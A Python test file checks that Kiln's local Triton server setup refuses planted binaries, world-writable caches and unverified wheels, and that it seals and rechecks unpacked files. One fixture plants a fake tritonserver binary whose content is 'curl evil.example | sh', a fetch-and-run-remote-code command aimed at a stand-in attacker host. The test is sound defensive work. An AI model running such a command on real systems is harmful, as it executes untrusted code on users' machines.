"""Nothing executable comes from the checkout: tritonserver and the backend venv are
taken from the user's own cache, and only when this user's Kiln put them there."""

from __future__ import annotations

import hashlib
import sys
import zipfile
from pathlib import Path

import pytest

from runtime.local import backend_env, triton_dist
from runtime.local.triton_dist import DistributionError, ensure_triton

PYTHON = f"{sys.version_info.major}.{sys.version_info.minor}"
PROGRAM = b"#!/bin/sh\necho tritonserver\n"


@pytest.fixture(autouse=True)
def no_platform_check(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(triton_dist, "check_platform", lambda: None)


def fake_wheel(path: Path) -> Path:
    """A wheel with the members Kiln unpacks: tritonserver and this Python's stub."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("pytriton/tritonserver/bin/tritonserver", PROGRAM)
        archive.writestr(
            f"pytriton/tritonserver/python_backend_stubs/{PYTHON}/triton_python_backend_stub",
            b"#!/bin/sh\necho stub\n",
        )
        archive.writestr("pytriton/tritonserver/backends/python/.keep", b"")
    return path


def plant(cache: Path) -> Path:
    """A tritonserver as a pull request could carry it, marker included."""
    root = cache / f"tritonserver-pytriton{triton_dist.PYTRITON_VERSION}-py{PYTHON}"
    binary = root / "pytriton" / "tritonserver" / "bin" / "tritonserver"
    binary.parent.mkdir(parents=True)
    binary.write_bytes(b"#!/bin/sh\ncurl evil.example | sh\n")
    (root / ".kiln-complete").write_text("nvidia_pytriton-0.7.0.whl\n", encoding="utf-8")
    return binary


def test_the_default_cache_is_the_users_not_the_checkouts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(triton_dist.CACHE_ENV, raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert triton_dist.default_cache() == tmp_path / "xdg" / "kiln" / "triton"


def test_a_planted_tritonserver_is_never_used(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    cache = tmp_path / "checkout" / ".kiln" / "cache"
    cache.mkdir(parents=True, mode=0o700)
    binary = plant(cache)
    monkeypatch.setenv(triton_dist.WHEEL_ENV, str(fake_wheel(tmp_path / "other.whl")))
    with pytest.raises(DistributionError, match=r"is not the nvidia-pytriton 0\.7\.0 wheel"):
        ensure_triton(cache)  # the planted tree is dropped, and the wheel is not PyPI's
    assert not binary.exists()


def test_a_verified_wheel_is_unpacked_sealed_and_checked_on_each_use(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheel = fake_wheel(tmp_path / "nvidia_pytriton-0.7.0-py3-none-any.whl")
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    monkeypatch.setattr(triton_dist, "WHEEL_SHA256", {digest})
    monkeypatch.setenv(triton_dist.WHEEL_ENV, str(wheel))
    cache = tmp_path / "cache"
    dist = ensure_triton(cache)
    assert dist.binary.read_bytes() == PROGRAM
    assert oct(cache.stat().st_mode & 0o777) == oct(0o700)
    assert ensure_triton(cache) == dist
    dist.binary.write_bytes(b"#!/bin/sh\necho changed\n")  # changed since: rebuilt
    assert ensure_triton(cache).binary.read_bytes() == PROGRAM


def test_a_cache_others_may_write_to_is_refused(tmp_path: Path) -> None:
    cache = tmp_path / "shared"
    cache.mkdir()
    cache.chmod(0o777)
    with pytest.raises(DistributionError, match="not yours alone"):
        ensure_triton(cache)


def test_a_planted_backend_venv_is_not_sealed(tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    secret = triton_dist.private_cache(cache)
    env = backend_env.BackendEnv(cache / "backend-env")
    env.bin.mkdir(parents=True)
    (env.bin / "python3").write_bytes(b"#!/bin/sh\necho planted\n")
    (env.path / ".kiln-complete").write_text('["numpy<2"]\n', encoding="utf-8")
    assert not backend_env._sealed(secret, env, ["numpy<2"])
    (env.path / ".kiln-complete").write_bytes(backend_env._seal(secret, env, ["numpy<2"]))
    assert backend_env._sealed(secret, env, ["numpy<2"])  # what Kiln itself writes
    (env.bin / "python3").write_bytes(b"#!/bin/sh\necho changed\n")
    assert not backend_env._sealed(secret, env, ["numpy<2"])
